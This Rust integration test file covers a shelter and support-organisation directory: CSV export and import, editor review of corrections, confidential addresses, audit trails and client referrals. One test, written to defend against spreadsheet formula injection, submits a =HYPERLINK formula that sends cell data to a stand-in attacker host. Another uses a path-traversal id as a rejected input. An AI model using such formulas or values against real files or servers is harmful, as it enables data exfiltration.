//! The social map over HTTP against the real server (issue #7): the CSV
//! export imports back as the same records; a file with bad rows reports
//! every one of them and changes nothing; a counsellor's correction waits
//! for an editor, who accepts or rejects it; an admin designates editors;
//! verifying clears the stale flag; referrals from a plan move through
//! their statuses and show the organisation's contacts. Every change is
//! audited by the entry's id.

use app::api::cases::{CaseView, ReferralResult};
use app::api::directory::{EntrySaveResult, EntryView, ImportResult, MapSearch, SuggestionView};
use app::domain::directory::EntryProblem;
use app::domain::referral::{ReferralRefusal, ReferralStatus};
use app::domain::{OrgKind, Role};
use tests::{add_case, add_users, call, call_ok, signed_in, Server, TestDb};

async fn export(c: &reqwest::Client, s: &Server) -> String {
    // Posted as the page's plain form posts it: a browser asking for a page.
    let r = c
        .post(s.url("/api/directory/export"))
        .header("Origin", &s.base)
        .header("Accept", "text/html")
        .header("Referer", s.url("/directory/exchange"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "the export is a download, not a redirect");
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    assert!(r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("social-map-"));
    r.text().await.unwrap()
}

async fn import(c: &reqwest::Client, s: &Server, csv: &str) -> ImportResult {
    call_ok(c, s, "/api/directory/import", &[("csv", csv)]).await
}

async fn entry(c: &reqwest::Client, s: &Server, id: &str) -> EntryView {
    call_ok(c, s, "/api/directory/entry", &[("id", id)]).await
}

/// An entry's form fields as the page posts them, with `changes`.
fn form_of(v: &EntryView, changes: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut f = app::domain::directory::to_fields(&v.entry);
    for (k, value) in changes {
        f.insert(k.to_string(), value.to_string());
    }
    let mut form: Vec<(String, String)> =
        f.into_iter().map(|(k, v)| (format!("f[{k}]"), v)).collect();
    form.push(("id".into(), v.entry.id.clone()));
    form.push(("version".into(), v.version.to_string()));
    form
}

async fn save(c: &reqwest::Client, s: &Server, form: &[(String, String)]) -> EntrySaveResult {
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    call_ok(c, s, "/api/directory/save", &form).await
}

#[tokio::test]
async fn the_map_round_trips_through_csv_and_bad_files_change_nothing() {
    let db = TestDb::sqlite();
    let store = db.store().await;
    add_users(
        &store,
        [
            ("Shelter A", OrgKind::Counselling, Role::Admin, "ada"),
            ("Shelter A", OrgKind::Counselling, Role::Counsellor, "carla"),
        ],
    )
    .await;
    store.close().await;
    let s = Server::start(&db.url).await;
    let ada = signed_in(&s, "ada").await;

    // The first start seeded the map; its export imports back unchanged.
    let first = export(&ada, &s).await;
    let rows = first.lines().count() - 1;
    assert_eq!(rows, app::catalog::directory_seed_entries().len());
    assert_eq!(
        import(&ada, &s, &first).await,
        ImportResult::Imported {
            created: 0,
            updated: 0,
            unchanged: rows
        }
    );
    assert_eq!(export(&ada, &s).await, first, "identical records");

    // A file with bad rows among good ones: every problem of every row,
    // with its row number (the header is row 1), and nothing imported.
    let today = tests::today();
    // Each entry with the version it was exported at.
    let seeded: Vec<(app::domain::directory::Organisation, i64)> =
        app::domain::directory::from_csv(&first, today)
            .unwrap()
            .into_iter()
            .map(|r| (r.entry, r.version.expect("an export gives versions")))
            .collect();
    let mut entries = seeded.clone();
    entries[0].0.country = "Netherlands".into();
    entries[2].0.email = "nobody".into();
    let mut bad = app::domain::directory::to_csv(&entries);
    let third = bad.lines().nth(3).unwrap().to_string();
    bad.push_str("only,three,cells\r\n");
    bad.push_str(&third);
    let ImportResult::Problems(problems) = import(&ada, &s, &bad).await else {
        panic!("a bad file is refused");
    };
    let found: Vec<(usize, &str, EntryProblem)> = problems
        .iter()
        .map(|p| (p.row, p.column.as_str(), p.problem))
        .collect();
    assert_eq!(
        found,
        [
            (2, "country", EntryProblem::Country),
            (4, "email", EntryProblem::Email),
            (rows + 2, "", EntryProblem::Columns),
            // A copy of row 4: its own problem again, and its id twice.
            (rows + 3, "email", EntryProblem::Email),
            (rows + 3, "id", EntryProblem::DuplicateId),
        ]
    );
    assert_eq!(export(&ada, &s).await, first, "nothing changed");

    // A good file (with the byte-order mark a spreadsheet writes): one
    // entry changed, one new.
    let mut entries = seeded.clone();
    entries[0].0.address_confidential = true;
    let new = {
        let mut o = app::domain::directory::Organisation::new(
            "ng-test-shelter",
            "Test Shelter, \"Benin\"",
            "NG",
            "Benin City",
        );
        o.phone = "+2348012345678".into();
        o.languages.insert("pcm".into());
        o.services
            .insert(app::domain::directory::Service::ShelterShort);
        o
    };
    entries.push((new.clone(), 0));
    let good = app::domain::directory::to_csv(&entries);
    assert_eq!(
        import(&ada, &s, &format!("\u{feff}{good}")).await,
        ImportResult::Imported {
            created: 1,
            updated: 1,
            unchanged: rows - 1
        }
    );
    assert_eq!(entry(&ada, &s, "ng-test-shelter").await.entry, new);
    let second = export(&ada, &s).await;
    assert_eq!(
        import(&ada, &s, &second).await,
        ImportResult::Imported {
            created: 0,
            updated: 0,
            unchanged: rows + 1
        }
    );
    // The first export, as it was, imported after that change: its row of
    // the changed entry was not edited in the file, so the change stays.
    assert_eq!(
        import(&ada, &s, &first).await,
        ImportResult::Imported {
            created: 0,
            updated: 0,
            unchanged: rows
        }
    );
    assert_eq!(export(&ada, &s).await, second, "the later change stays");
    // Edited in that old file, the row would undo the change: it is
    // refused, with the row named, and nothing changes.
    let mut stale = seeded.clone();
    stale[0].0.region = "Randstad".into();
    assert_eq!(
        import(&ada, &s, &app::domain::directory::to_csv(&stale)).await,
        ImportResult::Problems(vec![app::domain::directory::RowProblem {
            row: 2,
            column: "version".into(),
            problem: EntryProblem::ChangedSinceExport,
        }])
    );
    assert_eq!(export(&ada, &s).await, second, "nothing changed");

    // Found by service, country and language.
    let found: MapSearch = call_ok(
        &ada,
        &s,
        "/api/directory/search",
        &[
            ("service", "shelter_short"),
            ("country", "ng"),
            ("language", "pcm"),
        ],
    )
    .await;
    let ids: Vec<&str> = found.results.iter().map(|e| e.id.as_str()).collect();
    assert_eq!(ids, ["ng-test-shelter"]);

    // A file saved in another encoding (read as UTF-8: replacement
    // characters) and an id that cannot name a page are refused.
    let mut entries = seeded.clone();
    entries[1].0.name = "Stra\u{FFFD}e".into();
    entries[2].0.id = "nl/../x".into();
    let ImportResult::Problems(problems) =
        import(&ada, &s, &app::domain::directory::to_csv(&entries)).await
    else {
        panic!("refused");
    };
    let found: Vec<(usize, &str, EntryProblem)> = problems
        .iter()
        .map(|p| (p.row, p.column.as_str(), p.problem))
        .collect();
    assert_eq!(
        found,
        [
            (3, "name", EntryProblem::Encoding),
            (4, "id", EntryProblem::Value)
        ]
    );

    // A large file (2 000 organisations, over a megabyte) goes in whole.
    let many: Vec<(app::domain::directory::Organisation, i64)> = (0..2000)
        .map(|i| {
            let mut o = app::domain::directory::Organisation::new(
                &format!("bulk-{i}"),
                &format!("Bulk organisation {i}"),
                "BE",
                "Gent",
            );
            o.referral_procedure = "Call the intake line first; then send the form. ".repeat(10);
            (o, 0)
        })
        .collect();
    let big = app::domain::directory::to_csv(&many);
    assert!(big.len() > 1024 * 1024, "{}", big.len());
    assert_eq!(
        import(&ada, &s, &big).await,
        ImportResult::Imported {
            created: 2000,
            updated: 0,
            unchanged: 0
        }
    );

    // The page is rendered whole on the server, in Dutch for a Dutch
    // browser, with the filters applied and the stale flag.
    let carla = signed_in(&s, "carla").await;
    let page = carla
        .get(s.url("/directory?country=NG&service=shelter_short"))
        .header("Accept-Language", "nl-NL,nl;q=0.9")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let page = tests::readable(&page);
    assert!(page.contains("Sociale kaart"), "{page}");
    assert!(page.contains("Test Shelter"), "{page}");
    assert!(page.contains("Nooit gecontroleerd"), "{page}");
    assert!(!page.contains("CoMensha"), "filtered: {page}");

    // A counsellor may not export or import.
    assert_eq!(
        call(&carla, &s, "/api/directory/export", &[])
            .await
            .status(),
        404
    );
    assert_eq!(
        call(&carla, &s, "/api/directory/import", &[("csv", &first)])
            .await
            .status(),
        404
    );
    let audit = db.store().await.recent_audit(200).await.unwrap();
    let imports = audit
        .iter()
        .filter(|e| e.action == "directory.import" && e.outcome == "allowed")
        .count();
    // The two round trips, the good file, the old file left as it was and
    // the large one; the refused files are not imports, but each attempt
    // is audited (bad rows, encoding and id, a stale row).
    assert_eq!(imports, 5, "a refused file is not an import");
    let refused = audit
        .iter()
        .filter(|e| e.action == "directory.import" && e.outcome == "failed")
        .count();
    assert_eq!(refused, 3, "every refused file is audited");
}

#[tokio::test]
async fn a_counsellors_correction_waits_for_an_editor() {
    let db = TestDb::sqlite();
    let store = db.store().await;
    let [_, carla, ed] = add_users(
        &store,
        [
            ("Shelter A", OrgKind::Counselling, Role::Admin, "ada"),
            ("Shelter A", OrgKind::Counselling, Role::Counsellor, "carla"),
            ("Shelter A", OrgKind::Counselling, Role::Supervisor, "ed"),
        ],
    )
    .await;
    store.close().await;
    let s = Server::start(&db.url).await;
    let ada = signed_in(&s, "ada").await;
    let c = signed_in(&s, "carla").await;

    // The admin designates Ed an editor.
    let e = signed_in(&s, "ed").await;
    assert_eq!(
        call(&e, &s, "/api/directory/suggestions", &[])
            .await
            .status(),
        404,
        "not an editor yet"
    );
    call_ok::<()>(
        &ada,
        &s,
        "/api/admin/set_directory_editor",
        &[("user_id", &ed.id), ("editor", "true")],
    )
    .await;
    let none: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    assert!(none.is_empty());

    // Carla's bad correction names the field; nothing is kept.
    let before = entry(&c, &s, "nl-comensha").await;
    assert!(before.stale && !before.can_edit);
    // (A national number is fine now: it is stored in E.164 form.)
    let bad = save(&c, &s, &form_of(&before, &[("phone", "ask at the desk")])).await;
    let EntrySaveResult::Problems(p) = bad else {
        panic!("refused: {bad:?}")
    };
    assert_eq!(p.len(), 1);
    assert_eq!(
        (p[0].column.as_str(), p[0].problem),
        ("phone", EntryProblem::Phone)
    );
    // Her good one waits for an editor; the entry is unchanged.
    assert_eq!(
        save(
            &c,
            &s,
            &form_of(
                &before,
                &[("phone", "+31334481186"), ("services.legal_aid", "yes")]
            )
        )
        .await,
        EntrySaveResult::Suggested
    );
    assert_eq!(entry(&c, &s, "nl-comensha").await.entry, before.entry);
    // Without WASM the form posts as a page, and the browser is sent on to
    // where the result is said.
    let mut form = form_of(&before, &[("eligibility", "adults")]);
    form.push(("note".into(), String::new()));
    let r = c
        .post(s.url("/api/directory/save"))
        .header("Origin", &s.base)
        .header("Accept", "text/html")
        .header("Referer", s.url("/directory/entry/nl-comensha/edit"))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.status());
    assert_eq!(
        r.headers()["location"],
        "/directory/entry/nl-comensha?result=suggested"
    );
    let waiting: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    let plain = waiting
        .iter()
        .find(|w| w.changes.iter().any(|(c, _, _)| c == "eligibility"))
        .expect("the plain form's suggestion");
    call_ok::<()>(
        &e,
        &s,
        "/api/directory/decide_suggestion",
        &[
            ("id", &plain.id),
            ("accept", "false"),
            ("reason", "tried without script"),
        ],
    )
    .await;
    // A new organisation, suggested.
    let blank = EntryView {
        entry: app::domain::directory::Organisation::new("", "", "", ""),
        version: 0,
        ..before.clone()
    };
    let mut new_form = form_of(
        &blank,
        &[
            ("name", "Nieuw Huis"),
            ("country", "NL"),
            ("city", "Zwolle"),
        ],
    );
    new_form.retain(|(k, _)| k != "id");
    new_form.push(("id".into(), String::new()));
    new_form.push(("note".into(), "opened in May".into()));
    assert_eq!(save(&c, &s, &new_form).await, EntrySaveResult::Suggested);

    // Ed sees both, with only what Carla changed.
    let list: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    assert_eq!(list.len(), 2);
    let correction = list.iter().find(|s| !s.is_new).unwrap();
    let proposed = list.iter().find(|s| s.is_new).unwrap();
    assert_eq!(correction.entry_id, "nl-comensha");
    assert_eq!(correction.by, "Test counsellor");
    let columns: Vec<&str> = correction
        .changes
        .iter()
        .map(|(c, _, _)| c.as_str())
        .collect();
    assert_eq!(columns, ["services", "phone"]);
    assert_eq!(proposed.note, "opened in May");

    // Meanwhile Ed changes the entry's city himself.
    let now = entry(&e, &s, "nl-comensha").await;
    assert!(now.can_edit);
    let edited = save(&e, &s, &form_of(&now, &[("region", "Utrecht")])).await;
    assert!(
        matches!(edited, EntrySaveResult::Saved { version: 2, .. }),
        "{edited:?}"
    );
    // A save from the version he read before is a conflict.
    assert_eq!(
        save(&e, &s, &form_of(&now, &[("region", "Gelderland")])).await,
        EntrySaveResult::Conflict
    );
    // Rejecting needs a reason.
    assert_eq!(
        call(
            &e,
            &s,
            "/api/directory/decide_suggestion",
            &[("id", &proposed.id), ("accept", "false"), ("reason", " ")]
        )
        .await
        .status(),
        422
    );
    call_ok::<()>(
        &e,
        &s,
        "/api/directory/decide_suggestion",
        &[
            ("id", &proposed.id),
            ("accept", "false"),
            ("reason", "a duplicate of another entry"),
        ],
    )
    .await;
    // Accepting from the list shown before his own edit: the entry is no
    // longer as shown, nothing is decided.
    assert_eq!(correction.current_version, 1);
    assert_eq!(
        call(
            &e,
            &s,
            "/api/directory/decide_suggestion",
            &[("id", &correction.id), ("accept", "true"), ("version", "1")]
        )
        .await
        .status(),
        409
    );
    // From the list as it is now, accepting Carla's correction keeps Ed's
    // region: only her changes are taken over, and they count as checked
    // by the editor.
    let list: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    assert_eq!(list.len(), 1);
    assert!(list[0].entry_changed_since);
    assert_eq!(list[0].current_version, 2);
    call_ok::<()>(
        &e,
        &s,
        "/api/directory/decide_suggestion",
        &[("id", &correction.id), ("accept", "true"), ("version", "2")],
    )
    .await;
    let after = entry(&e, &s, "nl-comensha").await;
    assert_eq!(after.version, 3);
    assert_eq!(after.entry.phone, "+31334481186");
    assert_eq!(after.entry.region, "Utrecht");
    assert!(after
        .entry
        .services
        .contains(&app::domain::directory::Service::LegalAid));
    assert!(!after.entry.unverified.contains("phone"));
    let changes: Vec<&str> = after.versions.iter().map(|v| v.change.as_str()).collect();
    assert_eq!(changes, ["suggestion.edit", "edit", "seed"]);
    assert_eq!(
        after.versions[0].by, "Shelter A",
        "the organisation, not the person"
    );
    assert_eq!(
        after.versions[0].changed,
        ["services", "phone", "unverified"]
    );
    // Decided once only.
    assert_eq!(
        call(
            &e,
            &s,
            "/api/directory/decide_suggestion",
            &[("id", &correction.id), ("accept", "true"), ("version", "3")]
        )
        .await
        .status(),
        404
    );

    // Verifying clears the flag and names the verifying organisation.
    let v: i64 = call_ok(
        &e,
        &s,
        "/api/directory/verify",
        &[("id", "nl-comensha"), ("version", "3")],
    )
    .await;
    assert_eq!(v, 4);
    let verified = entry(&c, &s, "nl-comensha").await;
    assert!(!verified.stale);
    assert!(verified.entry.unverified.is_empty());
    assert_eq!(verified.entry.verified_by, "Shelter A");

    // Archived, it is no longer found, but still readable by id.
    let _: i64 = call_ok(
        &e,
        &s,
        "/api/directory/archive",
        &[
            ("id", "nl-comensha"),
            ("version", "4"),
            ("archived", "true"),
        ],
    )
    .await;
    let found: MapSearch = call_ok(&c, &s, "/api/directory/search", &[("text", "comensha")]).await;
    assert_eq!(found.matched, 0);
    assert!(entry(&c, &s, "nl-comensha").await.entry.archived);

    // A confidential address reaches the map's editors only; a
    // correction from someone who cannot see it leaves it alone.
    let shelter = entry(&e, &s, "nl-fier").await;
    let saved = save(
        &e,
        &s,
        &form_of(
            &shelter,
            &[
                ("address", "Geheime straat 1"),
                ("address_confidential", "yes"),
            ],
        ),
    )
    .await;
    assert!(matches!(saved, EntrySaveResult::Saved { .. }), "{saved:?}");
    let seen = entry(&c, &s, "nl-fier").await;
    assert!(seen.entry.address_confidential && seen.entry.address.is_empty());
    let body = call(&c, &s, "/api/directory/entry", &[("id", "nl-fier")])
        .await
        .text()
        .await
        .unwrap();
    assert!(!body.contains("Geheime"), "{body}");
    assert_eq!(
        save(&c, &s, &form_of(&seen, &[("phone", "+31582000000")])).await,
        EntrySaveResult::Suggested
    );
    let list: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    let columns: Vec<&str> = list[0].changes.iter().map(|(c, _, _)| c.as_str()).collect();
    assert_eq!(columns, ["phone"]);
    assert_eq!(
        entry(&e, &s, "nl-fier").await.entry.address,
        "Geheime straat 1"
    );

    // Every change audited by the entry's id, never with a person's name.
    let audit = db.store().await.recent_audit(200).await.unwrap();
    let on_entry: Vec<&str> = audit
        .iter()
        .filter(|e| e.section.as_deref() == Some("nl-comensha"))
        .map(|e| e.action.as_str())
        .collect();
    for action in [
        "directory.suggest",
        "directory.edit",
        "directory.suggestion.accept",
        "directory.verify",
        "directory.archive",
    ] {
        assert!(on_entry.contains(&action), "{action} in {on_entry:?}");
    }
    let _ = carla;
}

#[tokio::test]
async fn a_plan_refers_the_client_and_tracks_the_referral() {
    let db = TestDb::sqlite();
    let store = db.store().await;
    let [carla, _] = add_users(
        &store,
        [
            ("Shelter A", OrgKind::Counselling, Role::Counsellor, "carla"),
            ("Shelter B", OrgKind::Counselling, Role::Counsellor, "bert"),
        ],
    )
    .await;
    let case = add_case(&store, &carla, "Referral").await;
    let code = case.code.as_str().to_string();
    store.close().await;
    let s = Server::start(&db.url).await;
    // After the first start's seed: a shelter whose entry is for partners
    // only (its existence must not reach the client).
    let store = db.store().await;
    let mut closed = app::domain::directory::Organisation::new(
        "ng-closed-shelter",
        "Closed Shelter",
        "NG",
        "Lagos",
    );
    closed.visibility = app::domain::directory::Visibility::PartnersOnly;
    store
        .save_directory_entry(
            &closed,
            0,
            "create",
            &carla.id,
            chrono::Utc::now(),
            &app::store::NewAuditEvent::new("directory.create", app::store::AuditOutcome::Allowed),
        )
        .await
        .unwrap();
    store.close().await;
    let c = signed_in(&s, "carla").await;

    // The search offers the plan as where to refer from, to its
    // counsellor only.
    let found: MapSearch = call_ok(
        &c,
        &s,
        "/api/directory/search",
        &[("country", "NG"), ("for_case", &code)],
    )
    .await;
    assert_eq!(found.for_case.as_deref(), Some(code.as_str()));
    assert!(found.results.iter().any(|e| e.id == "ng-naptip"));
    let bert = signed_in(&s, "bert").await;
    let theirs: MapSearch =
        call_ok(&bert, &s, "/api/directory/search", &[("for_case", &code)]).await;
    assert_eq!(theirs.for_case, None);

    let refer = |org: &'static str, purpose: &'static str| {
        let (c, s, code) = (c.clone(), &s, code.clone());
        async move {
            call_ok::<ReferralResult>(
                &c,
                s,
                "/api/cases/referral",
                &[
                    ("code", code.as_str()),
                    ("op", "propose"),
                    ("organisation_id", org),
                    ("purpose", purpose),
                    ("note", "reception at the airport"),
                ],
            )
            .await
        }
    };
    let ReferralResult::Done { referrals, .. } = refer("ng-naptip", "reception").await else {
        panic!("referred");
    };
    assert_eq!(referrals.len(), 1);
    assert_eq!(referrals[0].status, ReferralStatus::Proposed);
    assert_eq!(
        refer("ng-naptip", "reception").await,
        ReferralResult::Refused(ReferralRefusal::AlreadyReferred)
    );
    assert_eq!(
        call(
            &c,
            &s,
            "/api/cases/referral",
            &[
                ("code", &code),
                ("op", "propose"),
                ("organisation_id", "no-such"),
                ("purpose", "reception")
            ]
        )
        .await
        .status(),
        404
    );
    // Another organisation's counsellor cannot touch the plan.
    assert_eq!(
        call(
            &bert,
            &s,
            "/api/cases/referral",
            &[
                ("code", &code),
                ("op", "propose"),
                ("organisation_id", "ng-naptip"),
                ("purpose", "follow_up")
            ]
        )
        .await
        .status(),
        404
    );

    let step = |from: &'static str, to: &'static str, reason: &'static str| {
        let (c, s, code) = (c.clone(), &s, code.clone());
        async move {
            call_ok::<ReferralResult>(
                &c,
                s,
                "/api/cases/referral",
                &[
                    ("code", code.as_str()),
                    ("op", "move"),
                    ("referral_id", "r1"),
                    ("from", from),
                    ("to", to),
                    ("reason", reason),
                ],
            )
            .await
        }
    };
    assert!(matches!(
        step("proposed", "contacted", "").await,
        ReferralResult::Done { .. }
    ));
    // A second click from the same page (already contacted) changes nothing.
    assert_eq!(
        step("proposed", "contacted", "").await,
        ReferralResult::Refused(ReferralRefusal::NotAllowed)
    );
    assert!(matches!(
        step("contacted", "accepted", "").await,
        ReferralResult::Done { .. }
    ));
    assert!(matches!(
        step("accepted", "delivered", "").await,
        ReferralResult::Done { .. }
    ));

    // The plan shows the referral with its history and the contacts.
    let view: CaseView = call_ok(&c, &s, "/api/cases/open", &[("code", &code)]).await;
    let r = &view.file.reintegration.referrals[0];
    assert_eq!(r.status, ReferralStatus::Delivered);
    assert_eq!(r.history.len(), 4);
    assert_eq!(view.referral_contacts.len(), 1);
    assert_eq!(view.referral_contacts[0].organisation_id, "ng-naptip");
    assert_eq!(view.referral_contacts[0].city, "Abuja");
    // Each change a version of the reintegration section, audited by code.
    assert_eq!(view.sections["reintegration"].version, 4);
    let audit = db.store().await.recent_audit(200).await.unwrap();
    let moves = audit
        .iter()
        .filter(|e| e.action == "case.referral.move" && e.case_code.as_deref() == Some(&code))
        .count();
    assert_eq!(moves, 3);

    // The plan on paper and as JSON (schema version 2) carries it too,
    // but the paper the client signs never names an organisation shown to
    // partners only.
    assert!(matches!(
        refer("ng-closed-shelter", "support").await,
        ReferralResult::Done { .. }
    ));
    let page = call(&c, &s, "/api/cases/print", &[("code", code.as_str())])
        .await
        .text()
        .await
        .unwrap();
    let page = tests::readable(&page);
    let printed = page
        .split("id=\"print-referrals\"")
        .nth(1)
        .expect("a referrals part");
    assert!(printed.contains("Referrals"), "{printed}");
    assert!(printed.contains("NAPTIP"), "{printed}");
    assert!(printed.contains("Reception on arrival"), "{printed}");
    assert!(printed.contains("Service delivered on"), "{printed}");
    assert!(printed.contains("reception at the airport"), "{printed}");
    assert!(!page.contains("Closed Shelter"), "{printed}");
    assert!(
        printed.contains("shown to partners only are not printed: 1."),
        "{printed}"
    );
    let json: serde_json::Value = call(&c, &s, "/api/cases/export_json", &[("code", &code)])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(json["schema_version"], "5");
    assert_eq!(json["referrals"][0]["organisation_id"], "ng-naptip");
    assert_eq!(json["referrals"][0]["status"], "delivered");
    assert_eq!(json["referrals"][0]["partners_only"], false);
    assert_eq!(json["referrals"][1]["organisation_id"], "ng-closed-shelter");
    assert_eq!(json["referrals"][1]["partners_only"], true);
}

/// Spreadsheet formula injection (issue #16): a correction whose cells
/// begin with formula characters, accepted by an editor, is exported with
/// each such cell written as text (a leading apostrophe), so that opening
/// the file in a spreadsheet runs nothing; the file imports back
/// unchanged, and the entry keeps exactly what was typed.
#[tokio::test]
async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back() {
    let db = TestDb::sqlite();
    let store = db.store().await;
    let [_, _, ed] = add_users(
        &store,
        [
            ("Shelter A", OrgKind::Counselling, Role::Admin, "ada"),
            ("Shelter A", OrgKind::Counselling, Role::Counsellor, "carla"),
            ("Shelter A", OrgKind::Counselling, Role::Supervisor, "ed"),
        ],
    )
    .await;
    store.close().await;
    let s = Server::start(&db.url).await;
    let ada = signed_in(&s, "ada").await;
    let c = signed_in(&s, "carla").await;
    let e = signed_in(&s, "ed").await;
    call_ok::<()>(
        &ada,
        &s,
        "/api/admin/set_directory_editor",
        &[("user_id", &ed.id), ("editor", "true")],
    )
    .await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let before = entry(&c, &s, "nl-comensha").await;
    assert_eq!(
        save(
            &c,
            &s,
            &form_of(
                &before,
                &[
                    ("eligibility", formula),
                    ("referral_procedure", "@SUM(1+1)"),
                    ("phone", "+31334481186"),
                ]
            )
        )
        .await,
        EntrySaveResult::Suggested
    );
    let waiting: Vec<SuggestionView> = call_ok(&e, &s, "/api/directory/suggestions", &[]).await;
    let version = entry(&e, &s, "nl-comensha").await.version.to_string();
    call_ok::<()>(
        &e,
        &s,
        "/api/directory/decide_suggestion",
        &[
            ("id", &waiting[0].id),
            ("accept", "true"),
            ("version", &version),
        ],
    )
    .await;
    let accepted = entry(&c, &s, "nl-comensha").await.entry;
    assert_eq!(accepted.eligibility, formula, "kept as typed");

    let csv = export(&ada, &s).await;
    let row = csv
        .lines()
        .find(|l| l.starts_with("nl-comensha,"))
        .expect("the entry's row");
    let cells: Vec<String> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(row.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?} in {row}"
        );
    }
    assert!(cells.contains(&format!("'{formula}")), "{row}");
    assert!(cells.contains(&"'@SUM(1+1)".to_string()), "{row}");
    assert!(cells.contains(&"'+31334481186".to_string()), "{row}");
    // Imported back: nothing changes.
    let rows = csv.lines().count() - 1;
    assert_eq!(
        import(&ada, &s, &csv).await,
        ImportResult::Imported {
            created: 0,
            updated: 0,
            unchanged: rows
        }
    );
    assert_eq!(entry(&c, &s, "nl-comensha").await.entry, accepted);
}
